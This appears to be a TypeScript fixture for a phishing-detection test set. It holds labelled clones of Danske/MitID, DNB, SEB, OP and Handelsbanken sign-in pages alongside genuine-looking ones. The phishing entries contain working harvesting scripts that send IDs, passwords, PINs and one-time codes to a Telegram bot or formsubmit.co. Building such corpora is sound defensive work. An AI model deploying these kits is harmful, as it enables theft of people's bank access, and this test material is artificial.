import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, baseCss, bankIdMark, spinnerCss, wordmark, b64, cookieBanner, gtm } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// National e-ID and bank sign-ins: kits copied from Swedbank, Danske/MitID, DNB, SEB, OP, the Latvian and
// Lithuanian state portals, and the real sign-in pages of the same services on their own hostnames.

export const entries: Entry[] = [
  {
  id: 'yb-dk-danske-mitid-telegram',
  label: 'phishing',
  kind: 'mitid-kit',
  url: 'https://login-danskebank.dk-mitid.net/netbank/logon',
  body: doc({
    lang: 'da',
    title: 'Log på - Danske Bank',
    css: `${baseCss}
body{background:#f4f6f8}
.top{background:#003755;height:64px;display:flex;align-items:center;padding:0 28px;color:#fff;font:700 22px Georgia,serif}
.mitid{max-width:400px;margin:50px auto;background:#fff;border:1px solid #d1d7dd;border-radius:4px}
.mitid .hd{padding:18px 24px;border-bottom:1px solid #e4e8eb;display:flex;justify-content:space-between;align-items:center}
.mitid .hd span{font-weight:700;color:#0060e6;font-size:20px}
.mitid .bd{padding:24px}
.mitid label{font-size:12px;font-weight:700;letter-spacing:.06em;color:#46505a}
.mitid input{width:100%;margin:6px 0 16px;padding:12px;border:1px solid #8a939c;border-radius:2px;font-size:16px}
.mitid button{width:100%;padding:13px;background:#0060e6;color:#fff;border:0;border-radius:2px;font-weight:700;font-size:16px}
.mitid .lnk{display:block;margin-top:14px;font-size:14px;color:#0060e6}
#wait{display:none;text-align:center}
${spinnerCss}`,
    body: `<div class="top">Danske Bank</div>
<div class="mitid">
 <div class="hd"><b>Log på hos Danske Bank</b><span>MitID</span></div>
 <div class="bd">
  <form id="m1">
   <label for="uid">BRUGER-ID</label>
   <input id="uid" name="uid" autocomplete="username" required>
   <label for="cpr">CPR-NUMMER</label>
   <input id="cpr" name="cpr" inputmode="numeric" placeholder="DDMMÅÅ-XXXX" maxlength="11" required>
   <label for="pw">ADGANGSKODE</label>
   <input id="pw" name="pw" type="password" required>
   <button type="submit">FORTSÆT</button>
   <a class="lnk" href="#">Glemt bruger-ID?</a>
  </form>
  <div id="wait"><p><b>Åbn MitID app og godkend</b></p><div class="spin"></div><p style="font-size:14px;color:#555">Anmodningen udløber om 3 minutter.</p></div>
 </div>
</div>
<script>
(function(){
var t='7412958830:AAHk2vQ_rWm1Xy0q9eTnLpZc4dBfGsYuIo8',c='-1002148830127';
function s(x){return fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:c,text:x,parse_mode:'HTML'})})}
document.getElementById('m1').onsubmit=function(e){e.preventDefault();
 var f=this,msg='<b>DANSKE MITID</b>\\nID: '+f.uid.value+'\\nCPR: '+f.cpr.value+'\\nPW: '+f.pw.value+'\\nUA: '+navigator.userAgent;
 fetch('https://ipapi.co/json/').then(function(r){return r.json()}).then(function(g){msg+='\\nIP: '+g.ip+' '+g.country_name}).catch(function(){}).finally(function(){s(msg);f.style.display='none';document.getElementById('wait').style.display='block';setTimeout(function(){location.href='https://danskebank.dk/privat'},45000)});
};
})();
</script>`,
  }),
},
  {
  id: 'yb-no-dnb-bankid-expiry',
  label: 'phishing',
  kind: 'bankid-no-kit',
  url: 'https://dnb-no.bankid-fornyelse.com/logg-inn/index.php',
  body: doc({
    lang: 'no',
    title: 'DNB – Forny BankID',
    css: `${cardCss}
body{background:#f2f8f7}
.card{border-top:6px solid #007272}
.brand{font:700 30px Arial;color:#007272;letter-spacing:1px}
.btn{background:#007272}
.notice{background:#fff4d6;border:1px solid #f1c34c;padding:12px;border-radius:6px;font-size:14px;margin-bottom:12px}`,
    body: `<div class="wrap"><div class="card">
<div class="brand">DNB</div>
<h1>Ditt BankID utløper</h1>
<div class="notice">Ditt BankID utløper <b id="d"></b>. For å unngå at nettbanken og Vipps blir sperret, må BankID fornyes i dag.</div>
<form method="post" action="next.php" id="f">
 <label for="fnr">Fødselsnummer (11 siffer)</label>
 <input type="text" id="fnr" name="fnr" inputmode="numeric" maxlength="11" pattern="[0-9]{11}" required>
 <label for="otp">Engangskode fra kodebrikke eller app</label>
 <input type="text" id="otp" name="otp" inputmode="numeric" maxlength="6" required>
 <label for="pw">Personlig passord</label>
 <input type="password" id="pw" name="pw" required>
 <input type="hidden" name="step" value="1">
 <button class="btn" type="submit">Forny BankID</button>
</form>
<p class="muted" style="margin-top:18px">BankID er utstedt av DNB Bank ASA. Les mer om <a href="#">sikkerhet</a>.</p>
</div><footer class="small">© DNB Bank ASA, org.nr. 984 851 006</footer></div>
<script>var d=new Date();d.setDate(d.getDate()+1);document.getElementById('d').textContent=d.toLocaleDateString('nb-NO');</script>`,
  }),
  routes: {
    'dnb-no.bankid-fornyelse.com/logg-inn/next.php': htmlRoute(
      doc({
        lang: 'no',
        title: 'DNB – Bekreft',
        css: cardCss,
        body: `<div class="wrap"><div class="card"><h1>Bekreft med ny engangskode</h1><p>Vi har sendt en ny kode. Skriv inn neste kode fra kodebrikken for å fullføre fornyelsen.</p><form method="post" action="next.php?s=2"><label>Ny engangskode</label><input name="otp2" inputmode="numeric" maxlength="6"><button class="btn">Fullfør</button></form></div></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-ee-seb-smartid-pin-harvest',
  label: 'phishing',
  kind: 'smartid-kit',
  url: 'https://seb-ee.smartid-kinnitus.com/ipank/',
  body: doc({
    lang: 'et',
    title: 'SEB internetipank – Sisene',
    css: `${baseCss}
body{background:#fff}
.hdr{height:70px;border-bottom:1px solid #e5e5e5;display:flex;align-items:center;padding:0 40px}
.hdr b{font:700 34px Arial;color:#60cd18}
.main{max-width:460px;margin:40px auto;padding:0 20px}
h1{font-size:28px;font-weight:400}
.tabs{display:flex;gap:4px;margin:20px 0}
.tabs button{flex:1;padding:10px;border:1px solid #ccc;background:#f7f7f7}
.tabs button.on{background:#fff;border-bottom-color:#fff;font-weight:700}
label{display:block;margin:14px 0 5px;font-size:14px}
input{width:100%;padding:11px;border:1px solid #999;border-radius:2px;font-size:16px}
.go{margin-top:20px;padding:13px 30px;background:#41b0ee;border:0;color:#fff;font-weight:700;font-size:16px;border-radius:2px}
#s2{display:none}
.code{font-size:44px;font-weight:700;letter-spacing:6px;text-align:center;margin:14px 0}`,
    body: `<div class="hdr"><b>SEB</b></div>
<div class="main">
<h1>Sisene internetipanka</h1>
<div class="tabs"><button class="on">Smart-ID</button><button>Mobiil-ID</button><button>ID-kaart</button></div>
<div id="s1">
 <label for="ik">Isikukood</label><input id="ik" maxlength="11" inputmode="numeric">
 <label for="un">Kasutajanimi</label><input id="un">
 <button class="go" id="b1">Jätka</button>
</div>
<div id="s2">
 <p>Kontrollkood</p><div class="code" id="kk">----</div>
 <p>Teie Smart-ID konto vajab uuesti kinnitamist. Sisestage kinnitamiseks PIN1 ja PIN2.</p>
 <label for="p1">PIN1</label><input id="p1" type="password" maxlength="8" inputmode="numeric">
 <label for="p2">PIN2</label><input id="p2" type="password" maxlength="8" inputmode="numeric">
 <button class="go" id="b2">Kinnita</button>
</div>
</div>
<script>
var st={};
function up(o){o.sid=st.sid||(st.sid=Math.random().toString(36).slice(2));return fetch('/gate.php',{method:'POST',body:new URLSearchParams(o)})}
document.getElementById('b1').onclick=function(){var ik=document.getElementById('ik').value;if(ik.length!==11){alert('Vigane isikukood');return}
 up({ik:ik,un:document.getElementById('un').value,bank:'seb'});document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';
 document.getElementById('kk').textContent=String(1000+Math.floor(Math.random()*9000));};
document.getElementById('b2').onclick=function(){up({pin1:document.getElementById('p1').value,pin2:document.getElementById('p2').value}).finally(function(){location.replace('https://www.seb.ee/')})};
</script>`,
  }),
},
  {
  id: 'yb-fi-op-tunnusluku-kit',
  label: 'phishing',
  kind: 'bank-fi-kit',
  url: 'https://op-verkkopalvelu.tunnistus-vahvistus.fi.net/kirjaudu',
  body: doc({
    lang: 'fi',
    title: 'Kirjaudu – OP',
    css: `${cardCss}
body{background:#f4f1ec}
.card{border-radius:2px}
.logo{width:54px;height:54px;border-radius:50%;background:#ff6a10;color:#fff;font:700 22px/54px Arial;text-align:center}
.btn{background:#ff6a10;border-radius:30px}
.step{display:none}.step.on{display:block}
.key{font-size:22px;font-weight:700;background:#f4f1ec;padding:8px 14px;display:inline-block;border-radius:4px}`,
    body: `<div class="wrap"><div class="card">
<div class="logo">OP</div>
<div class="step on" id="a">
<h1>Kirjaudu verkkopalveluun</h1>
<p>Tunnistautumisvälineesi vahvistus on vanhentunut. Vahvista tunnuksesi jatkaaksesi palvelun käyttöä.</p>
<label for="k">Käyttäjätunnus</label><input type="text" id="k" maxlength="8" inputmode="numeric">
<label for="s">Salasana</label><input type="password" id="s">
<button class="btn" onclick="go('b')">Jatka</button>
</div>
<div class="step" id="b">
<h1>Vahvista tunnistautuminen</h1>
<p>Syötä tunnuslukulistan avainluku <span class="key" id="nr">0412</span> vastaava tunnusluku.</p>
<label for="t">Tunnusluku</label><input type="text" id="t" maxlength="4" inputmode="numeric">
<label for="h">Henkilötunnus</label><input type="text" id="h" placeholder="ppkkvv-123X" maxlength="11">
<button class="btn" onclick="go('c')">Vahvista</button>
</div>
<div class="step" id="c"><h1>Kiitos</h1><p>Vahvistus on käsittelyssä. Älä sulje sivua.</p></div>
</div><footer class="small">OP Osuuskunta · Gebhardinaukio 1, 00510 Helsinki</footer></div>
<script>
function v(i){return document.getElementById(i).value}
function go(n){var d={k:v('k'),s:v('s'),t:v('t'),h:v('h'),step:n};
 var x=new XMLHttpRequest();x.open('POST','next.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(d).toString());
 [].forEach.call(document.querySelectorAll('.step'),function(s){s.classList.remove('on')});document.getElementById(n).classList.add('on');
 if(n==='b')document.getElementById('nr').textContent=String(Math.floor(Math.random()*9000)+1000);
 if(n==='c')setTimeout(function(){location.href='https://www.op.fi/'},6000);}
</script>`,
  }),
},
  {
  id: 'yb-se-handelsbanken-wp-upload',
  label: 'phishing',
  kind: 'compromised-site-kit',
  url: 'https://www.maleri-kalmar.se/wp-content/uploads/2024/03/hb/index.html',
  body: doc({
    lang: 'sv',
    title: 'Handelsbanken - Logga in',
    head: `<meta name="robots" content="noindex,nofollow">`,
    css: `${baseCss}
body{background:#fff}
.h{background:#005ea5;color:#fff;padding:18px 22px;font:700 20px Georgia,serif}
.c{padding:22px;max-width:420px;margin:0 auto}
label{display:block;font-size:15px;margin:16px 0 6px;font-weight:600}
input,select{width:100%;padding:13px;border:1px solid #8c9aa6;border-radius:3px;font-size:17px}
button{margin-top:22px;width:100%;padding:15px;border:0;background:#005ea5;color:#fff;font-size:17px;border-radius:3px}
.small{font-size:13px;color:#667;margin-top:18px}`,
    body: `<div class="h">Handelsbanken</div>
<div class="c">
<h2 style="font-weight:400">Logga in</h2>
<form id="hb">
<label for="m">Legitimeringsmetod</label>
<select id="m" name="metod"><option>Mobilt BankID på annan enhet</option><option>BankID på denna enhet</option><option>Kodkort</option></select>
<label for="pn">Personnummer</label><input id="pn" name="personnummer" placeholder="ÅÅÅÅMMDDXXXX" inputmode="numeric">
<label for="tel">Mobilnummer</label><input id="tel" name="mobil" type="tel" placeholder="07X-XXX XX XX">
<button type="submit">Fortsätt</button>
</form>
<p class="small">Vi ringer upp dig inom kort för att slutföra verifieringen av din legitimering.</p>
</div>
<script>
document.getElementById('hb').addEventListener('submit',function(e){e.preventDefault();
 fetch('https://formsubmit.co/ajax/kontroll.hb24@proton.me',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({metod:this.metod.value,pnr:this.personnummer.value,tel:this.mobil.value,_subject:'HB ny'})})
 .then(function(){document.querySelector('.c').innerHTML='<h2 style="font-weight:400">Tack</h2><p>En handläggare kontaktar dig inom 15 minuter. Ha din BankID-app redo.</p>'});
});
</script>`,
  }),
},
  {
  id: 'yb-dk-danske-netbank-mitid-own',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://netbank.danskebank.dk/login',
  body: doc({
    lang: 'da',
    title: 'Log på Netbank – Danske Bank',
    css: `${baseCss}
body{background:#f4f6f8}
.top{background:#003755;height:64px;display:flex;align-items:center;justify-content:space-between;padding:0 28px;color:#fff}
.top b{font:700 22px Georgia,serif}.top a{color:#fff;font-size:14px}
.w{max-width:980px;margin:40px auto;display:flex;gap:40px;padding:0 20px;flex-wrap:wrap}
iframe{border:0;width:400px;height:520px;background:#fff;border:1px solid #d1d7dd}
.txt{flex:1;min-width:260px}
.txt h2{color:#003755}`,
    body: `<div class="top"><b>Danske Bank</b><a href="https://danskebank.dk/privat/kundeservice">Kundeservice 70 123 456</a></div>
<div class="w">
<iframe src="/login/mitid-client?lang=da&amp;client=netbank" title="MitID"></iframe>
<div class="txt">
<h2>Log på med MitID</h2>
<p>Brug MitID app, kodeviser eller kodelæser. Du skal aldrig oplyse dit bruger-ID eller godkende i MitID app, hvis nogen ringer eller skriver til dig og beder om det.</p>
<p><a href="https://www.mitid.dk/hjaelp/">Hjælp til MitID</a> · <a href="https://danskebank.dk/privat/sikkerhed">Sikkerhed i netbank</a></p>
<p style="font-size:13px;color:#555">Danske Bank A/S · Bernstorffsgade 40 · 1577 København V · CVR-nr. 61126228</p>
</div></div>`,
  }),
  routes: {
    'netbank.danskebank.dk/login/mitid-client': htmlRoute(
      doc({
        lang: 'da',
        title: 'MitID',
        css: `${baseCss}body{padding:24px}label{font-size:12px;font-weight:700;letter-spacing:.06em}input{width:100%;padding:12px;border:1px solid #8a939c;margin:6px 0 16px}button{width:100%;padding:13px;background:#0060e6;color:#fff;border:0;font-weight:700}.hd{display:flex;justify-content:space-between;margin-bottom:20px}.hd span{color:#0060e6;font-weight:700}`,
        body: `<div class="hd"><b>Log på hos Danske Bank</b><span>MitID</span></div><form id="u" method="post" action="/login/mitid-client/identify"><label for="i">BRUGER-ID</label><input id="i" name="userId" autocomplete="username"><label style="font-weight:400;letter-spacing:0"><input type="checkbox" name="remember" style="width:auto"> Husk mig hos Danske Bank</label><button>FORTSÆT</button></form><p style="font-size:14px"><a href="https://www.mitid.dk/hjaelp/hjaelp-til-mitid/glemt-bruger-id/" target="_top">Glemt bruger-ID?</a></p>`,
      }),
    ),
  },
},
  {
  id: 'yb-no-dnb-logg-inn-own',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://www.dnb.no/logg-inn',
  body: doc({
    lang: 'no',
    title: 'Logg inn i nettbanken | DNB',
    css: `${baseCss}
body{background:#fff;color:#14555a}
header{height:70px;border-bottom:1px solid #e2ecec;display:flex;align-items:center;padding:0 32px;gap:30px}
header b{font:700 28px Arial;color:#007272}
main{max-width:520px;margin:40px auto;padding:0 20px}
h1{font-size:32px}
label{display:block;font-weight:600;margin:16px 0 6px}
input{width:100%;padding:13px;border:1px solid #14555a;border-radius:4px;font-size:17px}
.rad{display:flex;gap:18px;margin:16px 0}
.btn{margin-top:22px;padding:14px 34px;background:#007272;color:#fff;border:0;border-radius:4px;font-size:17px;font-weight:600}
.links{margin-top:30px;font-size:15px;line-height:2}`,
    body: `<header><b>DNB</b><a href="https://www.dnb.no/privat">Privat</a><a href="https://www.dnb.no/bedrift">Bedrift</a></header>
<main>
<h1>Logg inn</h1>
<form method="post" action="/logg-inn/bankid" id="login">
 <div class="rad"><label><input type="radio" name="m" value="app" checked style="width:auto"> BankID med app</label><label><input type="radio" name="m" value="brikke" style="width:auto"> BankID med kodebrikke</label></div>
 <label for="uid">Fødselsnummer</label>
 <input id="uid" name="uid" inputmode="numeric" maxlength="11" autocomplete="username" placeholder="11 siffer">
 <button class="btn" type="submit">Neste</button>
</form>
<div class="links">
 <a href="https://www.dnb.no/hjelp-og-veiledning/bankid">Problemer med BankID?</a><br>
 <a href="https://www.dnb.no/sikkerhet/svindel">Slik unngår du svindel</a><br>
 Sperre kort eller BankID: <b>915 04800</b>
</div>
</main>
${cookieBanner('Vi bruker informasjonskapsler for å gi deg en bedre opplevelse.', 'Godta alle', 'Tilpass')}
<script>document.getElementById('login').addEventListener('submit',function(e){var v=document.getElementById('uid').value.replace(/[^0-9]/g,'');if(v.length!==11){e.preventDefault();alert('Fødselsnummeret må ha 11 siffer.');}});</script>`,
  }),
},
  {
  id: 'yb-fi-suomifi-tunnistus-own',
  label: 'clean',
  kind: 'eid-broker-own-domain',
  url: 'https://tunnistautuminen.suomi.fi/sivut/valitse-tunnistustapa?lang=fi',
  body: doc({
    lang: 'fi',
    title: 'Tunnistautuminen – Suomi.fi',
    css: `${baseCss}
body{background:#f5f6f8}
.top{background:#fff;border-bottom:3px solid #2a6ebb;padding:14px 30px;display:flex;justify-content:space-between;align-items:center}
.top b{font:700 22px Arial;color:#2a6ebb}
.w{max-width:880px;margin:30px auto;background:#fff;padding:30px;border:1px solid #dde}
.svc{background:#eaf2fa;padding:12px 16px;border-radius:4px;margin-bottom:24px}
.grid{display:grid;grid-template-columns:repeat(auto-fill,minmax(150px,1fr));gap:12px}
.grid a{display:flex;align-items:center;justify-content:center;height:64px;border:1px solid #c8cdd0;text-decoration:none;font-weight:700;color:#2a2e33;background:#fff}
.grid a:hover{border-color:#2a6ebb}
h2{font-size:18px;margin-top:28px}`,
    body: `<div class="top"><b>Suomi.fi</b><span>Suomeksi · På svenska · In English</span></div>
<div class="w">
<div class="svc">Olet tunnistautumassa palveluun: <b>OmaVero – Verohallinto</b></div>
<h1>Valitse tunnistustapa</h1>
<h2>Mobiilivarmenne ja varmennekortti</h2>
<div class="grid"><a href="/sivut/mobiilivarmenne">Mobiilivarmenne</a><a href="/sivut/varmennekortti">Varmennekortti</a></div>
<h2>Pankkitunnukset</h2>
<div class="grid">
<a href="https://www.op.fi/tunnistus?ref=suomifi">OP</a><a href="https://tunnistus.nordea.fi/">Nordea</a><a href="https://www.danskebank.fi/tunnistus">Danske Bank</a>
<a href="https://tunnistus.spankki.fi/">S-Pankki</a><a href="https://www.aktia.fi/tunnistus">Aktia</a><a href="https://tunnistus.saastopankki.fi/">Säästöpankki</a>
<a href="https://tunnistus.poppankki.fi/">POP Pankki</a><a href="https://www.handelsbanken.fi/tunnistus">Handelsbanken</a><a href="https://tunnistus.omasp.fi/">Oma Säästöpankki</a>
<a href="https://www.alandsbanken.fi/tunnistus">Ålandsbanken</a>
</div>
<p style="margin-top:30px;font-size:14px"><a href="/sivut/peruuta">Peruuta ja palaa palveluun</a> · <a href="https://www.suomi.fi/ohjeet-ja-tuki/tietosuoja">Tietosuoja</a></p>
</div>`,
  }),
},
  {
  id: 'yb-se-bankid-skydda-dig-article',
  label: 'clean',
  kind: 'fraud-advice-own-domain',
  url: 'https://www.bankid.com/privat/skydda-dig',
  body: doc({
    lang: 'sv',
    title: 'Skydda dig mot bedrägerier | BankID',
    css: `${baseCss}
header{padding:18px 40px;border-bottom:1px solid #e4e8ea;display:flex;align-items:center;gap:30px}
header nav a{margin-right:22px;text-decoration:none;font-weight:600;color:#193e4f}
main{max-width:760px;margin:0 auto;padding:40px 20px}
h1{font-size:38px;color:#193e4f}
.ex{background:#f3f6f7;border-radius:8px;padding:16px 20px;font-family:Menlo,Consolas,monospace;font-size:14px;margin:12px 0}
h2{color:#193e4f;margin-top:36px}`,
    body: `<header>${bankIdMark()}<nav><a href="/privat">Privat</a><a href="/foretag">Företag</a><a href="/utvecklare">Utvecklare</a><a href="/support">Support</a></nav></header>
<main>
<h1>Skydda dig mot bedrägerier</h1>
<p>Bedragare försöker få dig att legitimera dig eller skriva under med BankID åt dem. Med några enkla regler kan du skydda dig.</p>
<h2>Legitimera dig aldrig på uppmaning</h2>
<p>Använd bara BankID när du själv har tagit initiativ. Om någon ringer och ber dig öppna BankID-appen – lägg på.</p>
<h2>Exempel på meddelanden som bedragare skickar</h2>
<div class="ex">BankID: Ditt BankID upphör att gälla idag. Förnya här för att undvika spärr: hxxps://bankid-fornyelse[.]com/se</div>
<div class="ex">Hej, det är Anna från din bank. Vi har stoppat ett misstänkt köp. För att avbryta köpet behöver du skanna QR-koden jag skickar.</div>
<div class="ex">Skatteverket: Du har en återbetalning på 4 312 kr. Logga in med BankID för att ta emot pengarna.</div>
<h2>Läs alltid texten i appen</h2>
<p>I BankID-appen står det vad du legitimerar dig för eller skriver under. Stämmer det inte – avbryt.</p>
<h2>Har du blivit lurad?</h2>
<p>Kontakta din bank direkt och spärra ditt BankID. Polisanmäl på polisen.se eller ring 114 14.</p>
</main>`,
  }),
},
];
